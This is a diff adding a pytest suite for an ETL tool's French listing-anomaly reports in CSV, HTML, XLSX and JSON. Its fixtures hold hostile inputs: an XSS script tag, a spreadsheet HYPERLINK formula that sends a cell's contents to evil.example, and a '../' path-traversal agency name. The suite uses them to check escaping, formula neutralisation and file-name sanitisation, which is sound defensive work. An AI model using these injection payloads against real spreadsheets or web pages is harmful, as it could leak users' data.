@@ -1,0 +1,308 @@
+"""The report files of a run, read back the way their readers read them."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from etl.extract.record import SourceLocation
+from etl.issues import Issue, error, warning
+from etl.outcome import ListingKey, Outcome
+from etl.report.rows import ANOMALY_COLUMNS
+from etl.report.summary import ConvertSummary
+from etl.report.writers import write_reports
+
+XSS = "<script>alert('pirate')</script>"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
+
+
+def make_outcome(agency: str, line: int, ref: str, *, accepted: bool, issues: Sequence[Issue] = (),
+                 requested: tuple[str, ...] = ("SL",), portals: tuple[str, ...] | None = None,
+                 file: str = "Annonces.csv") -> Outcome:
+    granted = list(requested if portals is None else portals) if accepted else []
+    return Outcome(
+        location=SourceLocation(file, line, line - 1),
+        key=ListingKey(agency, f"{agency}-{ref}"),
+        reference=ref,
+        accepted=accepted,
+        body={"portals": granted, "data": {"ref": ref}} if accepted else None,
+        body_hash="ab" * 32 if accepted else None,
+        requested_portals=list(requested),
+        portals=granted,
+        issues=list(issues),
+    )
+
+
+def price_missing() -> Issue:
+    return error("E_PRICE_MISSING", "Le prix de vente (champ 11) est vide : indiquez le prix dans votre logiciel.",
+                 source_field="Prix (champ 11)", aviv_path="data.prices.buy.price.amount", value="")
+
+
+def postcode(value: str) -> Issue:
+    return error("E_POSTCODE_INVALID", f"Le code postal « {value} » doit comporter 5 chiffres.",
+                 source_field="Code postal (champ 5)", aviv_path="data.location.postalcode", value=value)
+
+
+def short_description(value: str) -> Issue:
+    return warning("W_BD_DESCRIPTION_SHORT",
+                   "La description est trop courte pour Belles Demeures (160 caractères minimum).",
+                   source_field="Texte annonce (champ 21)", aviv_path="data.texts.description.fr",
+                   value=value, portal="BD")
+
+
+def no_picture() -> Issue:
+    return error("E_BD_PICTURE_MISSING", "Belles Demeures exige au moins une photo (champs 85 à 93).",
+                 source_field="Photo 1 (champ 85)", aviv_path="media", portal="BD")
+
+
+@pytest.fixture()
+def summary() -> ConvertSummary:
+    """Two agencies of a grouped Poliris send, plus one whose id is unsafe as a file name."""
+    s = ConvertSummary()
+    s.add_source("/srv/feeds/groupe/Annonces.csv", records=9)
+    for o in [
+        make_outcome("AG-PARIS", 2, "VA1001", accepted=True, requested=("SL", "BD")),
+        # rejected with two issues
+        make_outcome("AG-PARIS", 3, "VA1002", accepted=False, issues=[price_missing(), postcode("75O11")]),
+        make_outcome("AG-PARIS", 4, "VA1003", accepted=False, issues=[price_missing()]),
+        # accepted with a warning whose value is hostile HTML
+        make_outcome("AG-PARIS", 5, "VA1004", accepted=True, requested=("SL", "BD"),
+                     issues=[short_description(XSS)]),
+        # accepted, but refused on BD, and a warning
+        make_outcome("AG-PARIS", 6, "VA1005", accepted=True, requested=("SL", "BD"), portals=("SL",),
+                     issues=[no_picture(), short_description("Maison; «jardin»\nvue \"mer\"")]),
+        make_outcome("AG-NICE", 2, "NI-77", accepted=True),
+        make_outcome("AG-NICE", 3, "NI-78", accepted=False, issues=[postcode(FORMULA)]),
+        make_outcome("AG-NICE", 4, "NI-79", accepted=True, issues=[short_description("-12 € +3 @moi")]),
+        make_outcome("../Agence Été", 2, "X1", accepted=True),
+    ]:
+        s.add(o)
+    return s
+
+
+# Rows expected: 2 + 1 (rejected) + 1 (warning) + 2 (portal error + warning) for Paris, 1 + 1 for Nice.
+EXPECTED_ROWS = 8
+
+
+def read_csv(path: Path) -> list[list[str]]:
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing: Excel would misread the accents"
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+def test_write_reports_returns_every_file_it_wrote(summary: ConvertSummary, tmp_path: Path) -> None:
+    paths = write_reports(summary, tmp_path / "out")
+    assert {"csv", "html", "xlsx", "summary"} <= set(paths)
+    assert {k for k in paths if k.startswith("html:")} == \
+        {"html:AG-PARIS", "html:AG-NICE", "html:../Agence Été"}
+    for p in paths.values():
+        assert p.is_file() and p.parent == tmp_path / "out"
+    assert not list((tmp_path / "out").glob(".*tmp*")), "temporary files left behind"
+
+
+def test_csv_has_one_row_per_issue_with_french_header(summary: ConvertSummary, tmp_path: Path) -> None:
+    rows = read_csv(write_reports(summary, tmp_path)["csv"])
+    header, body = rows[0], rows[1:]
+    assert tuple(header) == ANOMALY_COLUMNS
+    assert len(body) == EXPECTED_ROWS
+    assert all(len(r) == len(header) for r in body)
+    by = [dict(zip(header, r, strict=True)) for r in body]
+
+    va1002 = [r for r in by if r["référence"] == "VA1002"]
+    assert [r["code"] for r in va1002] == ["E_PRICE_MISSING", "E_POSTCODE_INVALID"]
+    assert (va1002[1]["agence"], va1002[1]["clé source"], va1002[1]["fichier"], va1002[1]["ligne"]) == \
+        ("AG-PARIS", "AG-PARIS-VA1002", "Annonces.csv", "3")
+    assert (va1002[1]["gravité"], va1002[1]["décision"], va1002[1]["valeur"]) == ("erreur", "refusée", "75O11")
+    assert va1002[1]["champ source"] == "Code postal (champ 5)"
+    assert va1002[1]["chemin AVIV"] == "data.location.postalcode"
+    assert "« 75O11 »" in va1002[1]["message"]
+
+    va1005 = {r["code"]: r for r in by if r["référence"] == "VA1005"}
+    assert va1005["E_BD_PICTURE_MISSING"]["décision"] == "publiée, sauf sur BD"
+    assert va1005["E_BD_PICTURE_MISSING"]["portail"] == "BD"
+    assert va1005["W_BD_DESCRIPTION_SHORT"]["gravité"] == "avertissement"
+    # separator, quote and newline inside a value survive the round trip
+    assert va1005["W_BD_DESCRIPTION_SHORT"]["valeur"] == "Maison; «jardin»\nvue \"mer\""
+    # accepted listings without issues have no row
+    assert not {"VA1001", "NI-77", "X1"} & {r["référence"] for r in by}
+
+
+def test_csv_neutralises_values_a_spreadsheet_would_run_as_formulas(summary: ConvertSummary,
+                                                                     tmp_path: Path) -> None:
+    rows = read_csv(write_reports(summary, tmp_path)["csv"])
+    values = {r[2]: r[ANOMALY_COLUMNS.index("valeur")] for r in rows[1:]}
+    assert values["AG-NICE-NI-78"] == "'" + FORMULA
+    assert values["AG-NICE-NI-79"] == "'-12 € +3 @moi"
+    for r in rows[1:]:
+        for cell in r:
+            assert not cell or cell[0] not in "=+-@", cell
+
+
+def test_html_run_page_is_french_and_lists_the_listings_to_fix(summary: ConvertSummary,
+                                                              tmp_path: Path) -> None:
+    html = write_reports(summary, tmp_path)["html"].read_text(encoding="utf-8")
+    assert html.startswith("<!DOCTYPE html>") and '<html lang="fr">' in html
+    for text in ("Rapport de publication des annonces", "Synthèse", "Agence AG-PARIS", "Agence AG-NICE",
+                 "Annonces refusées — à corriger pour être publiées",
+                 "Annonces acceptées, mais pas sur tous les portails demandés",
+                 "Points à améliorer", "Sur 5 annonces lues", "Problèmes les plus fréquents",
+                 "VA1002", "Annonces.csv, ligne 3", "Code postal (champ 5)", "« 75O11 »",
+                 "Le prix de vente (champ 11) est vide", "/srv/feeds/groupe/Annonces.csv",
+                 "Belles Demeures", "Total"):
+        assert text in html, text
+    # self-contained: no external stylesheet, script or image
+    assert not re.search(r"<(link|script|img)\b", html)
+    assert "http://" not in html.replace("http://evil.example", "")
+
+
+def test_html_escapes_agency_text(summary: ConvertSummary, tmp_path: Path) -> None:
+    paths = write_reports(summary, tmp_path)
+    for key in ("html", "html:AG-PARIS"):
+        html = paths[key].read_text(encoding="utf-8")
+        assert XSS not in html
+        assert "&lt;script&gt;alert(&#39;pirate&#39;)&lt;/script&gt;" in html
+
+
+def test_html_puts_most_frequent_problem_first(summary: ConvertSummary, tmp_path: Path) -> None:
+    html = write_reports(summary, tmp_path)["html:AG-PARIS"].read_text(encoding="utf-8")
+    rejected = html.split("Annonces refusées — à corriger")[1].split("</section>")[0]
+    # E_PRICE_MISSING concerns two listings, E_POSTCODE_INVALID one.
+    assert rejected.index("E_PRICE_MISSING") < rejected.index("E_POSTCODE_INVALID")
+    assert "2 annonces · code E_PRICE_MISSING" in rejected
+    # rejections come before the warnings
+    assert html.index("Annonces refusées — à corriger") < html.index("Points à améliorer")
+
+
+def test_each_agency_page_shows_only_that_agency(summary: ConvertSummary, tmp_path: Path) -> None:
+    paths = write_reports(summary, tmp_path)
+    paris = paths["html:AG-PARIS"].read_text(encoding="utf-8")
+    nice = paths["html:AG-NICE"].read_text(encoding="utf-8")
+    assert paths["html:AG-PARIS"].name == "report-AG-PARIS.html"
+    assert "VA1002" in paris and "NI-78" not in paris and "AG-NICE" not in paris
+    assert "NI-78" in nice and "VA1002" not in nice and "AG-PARIS" not in nice
+    assert "Rapport de publication — AG-NICE" in nice
+    run = paths["html"].read_text(encoding="utf-8")
+    assert 'href="report-AG-NICE.html"' in run
+
+
+def test_agency_ids_are_sanitised_into_safe_file_names(summary: ConvertSummary, tmp_path: Path) -> None:
+    paths = write_reports(summary, tmp_path / "out")
+    p = paths["html:../Agence Été"]
+    assert p.name == "report-Agence-Ete.html"
+    assert p.resolve().parent == (tmp_path / "out").resolve()
+    assert "Agence ../Agence Été" in p.read_text(encoding="utf-8")
+    assert "Aucune anomalie" in p.read_text(encoding="utf-8")
+
+
+def test_xlsx_has_synthesis_and_anomaly_sheets(summary: ConvertSummary, tmp_path: Path) -> None:
+    paths = write_reports(summary, tmp_path)
+    wb = load_workbook(paths["xlsx"])
+    assert wb.sheetnames == ["Synthèse", "Anomalies"]
+
+    an = wb["Anomalies"]
+    rows = list(an.iter_rows(values_only=True))
+    assert rows[0] == ANOMALY_COLUMNS
+    assert len(rows) - 1 == EXPECTED_ROWS == len(read_csv(paths["csv"])) - 1
+    assert an.freeze_panes == "A2"
+    assert an.auto_filter.ref == f"A1:M{EXPECTED_ROWS + 1}"
+    assert an["A1"].font.bold
+    assert 8 <= an.column_dimensions["A"].width <= 60
+    by_key = {r[2]: r for r in rows[1:]}
+    # The formula is stored as text, unaltered: opening the workbook runs nothing.
+    cell = next(c for c in an["L"] if c.value == FORMULA)
+    assert cell.data_type == "s"
+    assert by_key["AG-PARIS-VA1002"][4] == 3  # line number stays a number
+
+    syn = wb["Synthèse"]
+    table: dict[str, tuple] = {}
+    for r in syn.iter_rows(values_only=True):  # first occurrence: the counts table
+        if r and r[0] in ("AG-PARIS", "AG-NICE", "Total"):
+            table.setdefault(r[0], r)
+    # Agence, lues, acceptées, refusées, avec avertissements, avertissements, SeLoger, Belles Demeures
+    assert table["AG-PARIS"][:8] == ("AG-PARIS", 5, 3, 2, 2, 2, 3, 2)
+    assert table["AG-NICE"][:5] == ("AG-NICE", 3, 2, 1, 1)
+    assert table["Total"][1:4] == (9, 6, 3)
+    header_row = next(c.row for c in syn["A"] if c.value == "Agence")
+    assert syn.freeze_panes == f"B{header_row + 1}"
+
+
+def test_xlsx_survives_control_characters_in_agency_text(tmp_path: Path) -> None:
+    s = ConvertSummary()
+    s.add(make_outcome("AG1", 2, "R\x01", accepted=False, issues=[postcode("750\x0b01")]))
+    wb = load_workbook(write_reports(s, tmp_path)["xlsx"])
+    row = list(wb["Anomalies"].iter_rows(values_only=True))[1]
+    assert row[1] == "R\ufffd" and row[ANOMALY_COLUMNS.index("valeur")] == "750\ufffd01"
+
+
+def test_summary_json_counts_and_report_paths(summary: ConvertSummary, tmp_path: Path) -> None:
+    paths = write_reports(summary, tmp_path)
+    j = json.loads(paths["summary"].read_text(encoding="utf-8"))
+    paris = j["agencies"]["AG-PARIS"]
+    assert {k: paris[k] for k in ("read", "accepted", "rejected", "warned", "warnings", "errors")} == \
+        {"read": 5, "accepted": 3, "rejected": 2, "warned": 2, "warnings": 2, "errors": 4}
+    assert paris["by_portal"] == {"SL": 3, "BD": 2}
+    assert paris["refused_by_portal"] == {"BD": 1}
+    assert {k: paris[k] for k in ("created", "updated", "deleted", "unchanged", "failed")} == \
+        dict.fromkeys(("created", "updated", "deleted", "unchanged", "failed"), 0)
+    assert j["totals"]["read"] == 9 and j["totals"]["rejected"] == 3
+    assert j["totals"]["read"] == j["totals"]["accepted"] + j["totals"]["rejected"]
+    assert j["finished_at"] is not None and j["durations_s"]["total"] >= 0
+    for name in j["reports"].values():
+        assert (tmp_path / name).is_file()
+    assert (tmp_path / paris["reports"]["html"]).is_file()
+    assert j["agencies"]["../Agence Été"]["reports"]["html"] == "report-Agence-Ete.html"
+
+
+def test_truncated_source_and_omitted_listings_are_announced(tmp_path: Path) -> None:
+    s = ConvertSummary(max_listings_per_agency=2)
+    s.add_source("/srv/feeds/AG1.csv", records=5, complete=False,
+                 problems=["Le fichier s'arrête au milieu de la ligne 6."])
+    for n in range(5):
+        s.add(make_outcome("AG1", n + 2, f"R{n}", accepted=False, issues=[price_missing()]))
+    paths = write_reports(s, tmp_path)
+    html = paths["html"].read_text(encoding="utf-8")
+    assert "n'a pas pu être lu en entier" in html
+    assert "Le fichier s&#39;arrête au milieu de la ligne 6." in html
+    assert "3 autres annonces ont aussi des anomalies" in html
+    assert len(read_csv(paths["csv"])) - 1 == 2
+    assert json.loads(paths["summary"].read_text())["sources"][0]["complete"] is False
+
+
+def test_hints_name_the_problem_for_the_agency(summary: ConvertSummary, tmp_path: Path) -> None:
+    hints = {"E_POSTCODE_INVALID": "Code postal incorrect : saisissez les 5 chiffres du code postal du bien."}
+    html = write_reports(summary, tmp_path, hints=hints)["html:AG-NICE"].read_text(encoding="utf-8")
+    assert "<h4>Code postal incorrect : saisissez les 5 chiffres" in html
+
+
+def test_run_command_shows_loader_columns(tmp_path: Path) -> None:
+    s = ConvertSummary(command="run")
+    s.add(make_outcome("AG1", 2, "R1", accepted=True))
+    s.add_load_counts("AG1", created=1)
+    html = write_reports(s, tmp_path)["html"].read_text(encoding="utf-8")
+    assert "Créées" in html and "rien n'a encore été envoyé" not in html
+    wb = load_workbook(tmp_path / "report.xlsx")
+    header = next(r for r in wb["Synthèse"].iter_rows(values_only=True) if r and r[0] == "Agence")
+    assert "Créées" in header
+
+
+def test_empty_run_still_writes_every_report(tmp_path: Path) -> None:
+    paths = write_reports(ConvertSummary(), tmp_path)
+    assert len(read_csv(paths["csv"])) == 1
+    assert json.loads(paths["summary"].read_text())["totals"]["read"] == 0
+    assert "Rapport de publication des annonces" in paths["html"].read_text(encoding="utf-8")
+    assert load_workbook(paths["xlsx"])["Anomalies"].max_row == 1
+
+
+def test_plan_announces_what_would_be_sent(tmp_path: Path) -> None:
+    s = ConvertSummary(command="plan")
+    s.add(make_outcome("AG1", 2, "R1", accepted=True))
+    s.add_load_counts("AG1", created=1)
+    html = write_reports(s, tmp_path)["html"].read_text(encoding="utf-8")
+    assert "À créer" in html and "rien n'a encore été envoyé" in html
